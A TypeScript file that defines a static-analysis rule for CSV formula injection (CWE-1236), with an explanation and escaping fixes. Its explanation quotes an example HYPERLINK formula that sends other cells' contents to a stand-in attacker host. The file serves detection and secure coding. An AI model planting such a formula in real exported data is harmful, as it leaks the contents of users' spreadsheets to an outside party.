import { defineFlowRule } from "../flow-rule.ts";

export const rule = defineFlowRule({
  meta: {
    id: "sast/csv-injection",
    title: "Spreadsheet cell that somebody else fills in",
    category: "code",
    severity: "medium",
    cwe: [1236],
    owasp: ["A03:2021"],
    why: 'A cell that begins with `=`, `+`, `-` or `@` is a formula to Excel and its like. `=HYPERLINK("https://evil.example/?"&A1)` in a name sends the other cells away as soon as whoever exports the list opens it and clicks; older versions start programs.',
    fix: "Let the writer put a quote before such cells: `Papa.unparse(rows, { escapeFormulae: true })`, `stringify(rows, { escape_formulas: true })`; by hand: `/^[=+\\-@\\t\\r]/.test(cell) ? `'${cell}` : cell`.",
    references: ["https://owasp.org/www-community/attacks/CSV_Injection"],
  },
  dangers: { cell: "a cell of a table that is opened as a spreadsheet" },
  reportsAssumed: false,
});
